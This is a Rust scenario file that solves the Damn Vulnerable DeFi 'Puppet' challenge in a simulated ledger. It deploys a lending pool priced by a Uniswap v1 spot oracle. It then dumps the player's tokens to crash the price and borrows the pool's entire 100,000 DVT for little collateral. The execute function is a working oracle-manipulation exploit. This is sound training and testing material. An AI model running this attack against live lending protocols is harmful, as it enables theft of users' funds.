//! Puppet: borrow a lending pool dry after crashing its Uniswap v1 oracle.
//!
//! The pool prices DVT at the exchange's spot ratio. Selling the player's
//! whole DVT balance into the 10 ETH / 10 DVT exchange leaves almost no ETH
//! behind, and the collateral needed for the pool's 100 000 DVT falls below
//! what the player holds.

use std::sync::Arc;

use alloy_primitives::{Address, U256};
use gauntlet_ledger::math;
use gauntlet_ledger::primitives::{ether, one_ether};
use gauntlet_ledger::revert::CallResult;
use gauntlet_ledger::vm::Ledger;
use gauntlet_targets::dvt::DamnValuableToken;
use gauntlet_targets::erc20;
use gauntlet_targets::puppet::{self, PuppetPool, DEPOSIT_FACTOR_VALUE};
use gauntlet_targets::uniswap_v1::{self, UniswapV1Exchange, UniswapV1Factory};
use tracing::debug;

use super::{deadline, verify_pool_drained, OracleShift};
use crate::actors::DEPLOYER;
use crate::contract::{setup_eq, PhaseExt, Scenario, ScenarioError, TrackedBalance};

pub const ID: &str = "puppet";

fn exchange_token_reserve() -> U256 {
    ether(10)
}

fn exchange_eth_reserve() -> U256 {
    ether(10)
}

fn player_token_balance() -> U256 {
    ether(1_000)
}

fn player_eth_balance() -> U256 {
    ether(25)
}

fn pool_token_balance() -> U256 {
    ether(100_000)
}

#[derive(Debug, Clone, Copy)]
pub struct Puppet;

#[derive(Debug, Clone, Copy)]
pub struct Fixture {
    pub token: Address,
    pub exchange: Address,
    pub pool: Address,
    pub player: Address,
    /// Recorded by the attack.
    pub shift: Option<OracleShift>,
}

/// Collateral the pool asks for `amount` DVT when the exchange holds
/// `eth_reserve` wei against `token_reserve` DVT.
///
/// # Errors
///
/// Reverts on an empty token reserve or on overflow.
pub fn predicted_deposit(amount: U256, eth_reserve: U256, token_reserve: U256) -> CallResult<U256> {
    let price = math::div(math::mul(eth_reserve, one_ether())?, token_reserve)?;
    let value = math::mul(amount, price)?;
    math::div(math::mul(value, U256::from(DEPOSIT_FACTOR_VALUE))?, one_ether())
}

impl Scenario for Puppet {
    type Fixture = Fixture;

    fn id(&self) -> &'static str {
        ID
    }

    fn setup(&self, vm: &mut Ledger) -> Result<Fixture, ScenarioError> {
        let player = self.player();
        vm.set_balance(player, player_eth_balance());
        setup_eq("player eth", player_eth_balance(), vm.balance(player))?;

        let token = vm
            .deploy(DEPLOYER, Arc::new(DamnValuableToken), U256::ZERO)
            .in_setup("deploy token")?;
        let template = vm
            .deploy(DEPLOYER, Arc::new(UniswapV1Exchange), U256::ZERO)
            .in_setup("deploy exchange template")?;
        let factory = vm
            .deploy(DEPLOYER, Arc::new(UniswapV1Factory), U256::ZERO)
            .in_setup("deploy factory")?;
        vm.send(
            DEPLOYER,
            factory,
            U256::ZERO,
            &uniswap_v1::calls::initialize_factory(template),
        )
        .in_setup("initializeFactory")?;
        vm.send(DEPLOYER, factory, U256::ZERO, &uniswap_v1::calls::create_exchange(token))
            .in_setup("createExchange")?;
        let exchange = uniswap_v1::exchange_for(vm, factory, token).in_setup("getExchange")?;

        let pool = vm
            .deploy(
                DEPLOYER,
                Arc::new(PuppetPool {
                    token,
                    uniswap_pair: exchange,
                }),
                U256::ZERO,
            )
            .in_setup("deploy pool")?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::approve(exchange, exchange_token_reserve()),
        )
        .in_setup("approve exchange")?;
        let liquidity_deadline = deadline(vm);
        vm.send(
            DEPLOYER,
            exchange,
            exchange_eth_reserve(),
            &uniswap_v1::calls::add_liquidity(U256::ZERO, exchange_token_reserve(), liquidity_deadline),
        )
        .in_setup("addLiquidity")?;

        let quoted = uniswap_v1::token_to_eth_price(vm, exchange, one_ether())
            .in_setup("getTokenToEthInputPrice")?;
        let expected = uniswap_v1::input_price(one_ether(), exchange_token_reserve(), exchange_eth_reserve())
            .in_setup("input price")?;
        setup_eq("token to eth input price", expected, quoted)?;

        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(player, player_token_balance()),
        )
        .in_setup("fund player")?;
        vm.send(
            DEPLOYER,
            token,
            U256::ZERO,
            &erc20::calls::transfer(pool, pool_token_balance()),
        )
        .in_setup("fund pool")?;

        setup_eq(
            "deposit for 1 DVT",
            ether(2),
            puppet::deposit_required(vm, pool, one_ether()).in_setup("calculateDepositRequired")?,
        )?;
        setup_eq(
            "deposit for the pool",
            pool_token_balance() * U256::from(2u8),
            puppet::deposit_required(vm, pool, pool_token_balance())
                .in_setup("calculateDepositRequired")?,
        )?;

        Ok(Fixture {
            token,
            exchange,
            pool,
            player,
            shift: None,
        })
    }

    fn execute(&self, vm: &mut Ledger, fixture: &mut Fixture) -> Result<(), ScenarioError> {
        let (token, exchange, pool, player) =
            (fixture.token, fixture.exchange, fixture.pool, fixture.player);
        let before = puppet::deposit_required(vm, pool, pool_token_balance())
            .attack_step("quote before swap")?;

        let dump = erc20::balance_of(vm, token, player).attack_step("read player tokens")?;
        let eth_reserve = vm.balance(exchange);
        let token_reserve = erc20::balance_of(vm, token, exchange).attack_step("read reserve")?;
        let eth_out = uniswap_v1::token_to_eth_price(vm, exchange, dump).attack_step("price swap")?;

        vm.send(player, token, U256::ZERO, &erc20::calls::approve(exchange, dump))
            .attack_step("approve exchange")?;
        let swap = uniswap_v1::calls::token_to_eth_swap_input(dump, eth_out, deadline(vm));
        vm.send(player, exchange, U256::ZERO, &swap)
            .attack_step("tokenToEthSwapInput")?;

        let after = puppet::deposit_required(vm, pool, pool_token_balance())
            .attack_step("quote after swap")?;
        let predicted = math::sub(eth_reserve, eth_out)
            .and_then(|eth| {
                predicted_deposit(pool_token_balance(), eth, math::add(token_reserve, dump)?)
            })
            .attack_step("predict quote")?;
        debug!(%before, %after, %predicted, %eth_out, "oracle moved");
        fixture.shift = Some(OracleShift {
            before,
            after,
            predicted,
        });

        vm.send(player, pool, after, &puppet::calls::borrow(pool_token_balance(), player))
            .attack_step("borrow")?;
        Ok(())
    }

    fn verify(&self, vm: &Ledger, fixture: &Fixture) -> Result<(), ScenarioError> {
        verify_pool_drained(
            vm,
            fixture.token,
            fixture.pool,
            fixture.player,
            pool_token_balance(),
            fixture.shift,
        )
    }

    fn tracked_balances(&self, fixture: &Fixture) -> Vec<TrackedBalance> {
        vec![
            TrackedBalance::token("pool_dvt", fixture.token, fixture.pool),
            TrackedBalance::token("player_dvt", fixture.token, fixture.player),
            TrackedBalance::native("player_eth", fixture.player),
            TrackedBalance::native("exchange_eth", fixture.exchange),
        ]
    }
}
